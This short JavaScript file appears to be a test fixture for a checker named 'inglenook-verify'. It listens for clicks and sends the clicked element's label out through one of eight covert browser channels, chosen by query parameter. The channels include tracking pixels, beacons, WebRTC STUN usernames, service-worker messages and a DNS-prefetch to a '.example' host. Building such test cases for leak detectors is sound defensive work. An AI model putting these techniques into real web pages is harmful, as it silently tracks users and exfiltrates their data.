// Each of these tells the world what the reader pressed; leak.html?leak=image leaks by the first. `inglenook-verify` must notice every one.
const LEAKS = {
  image: (what) => (new Image().src = `pixel.png?${what}`),
  beacon: (what) => navigator.sendBeacon('collect', what),
  fetch: (what) => fetch(`collect?${what}`, { mode: 'no-cors', keepalive: true }),
  // The server answers with another place, which gets to know it too.
  redirect: (what) => fetch(`bounce?${what}`),
  webrtc: async (what) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: 'stun:localhost:3478', username: what, credential: 'x' }],
    });
    connection.createDataChannel(what);
    await connection.setLocalDescription(await connection.createOffer());
  },
  farewell: (what) => addEventListener('pagehide', () => navigator.sendBeacon('collect', what)),
  'service-worker': async (what) => (await navigator.serviceWorker.ready).active.postMessage(what),
  hint: (what) => {
    const link = Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${what}.example` });
    document.head.append(link);
  },
};

const leak = new URLSearchParams(location.search).get('leak');
if (leak === 'service-worker') await navigator.serviceWorker.register('service-worker.js');
addEventListener('click', (event) => {
  const [target] = event.composedPath();
  LEAKS[leak](encodeURIComponent(target.ariaLabel ?? 'something').replaceAll('%', ''));
});
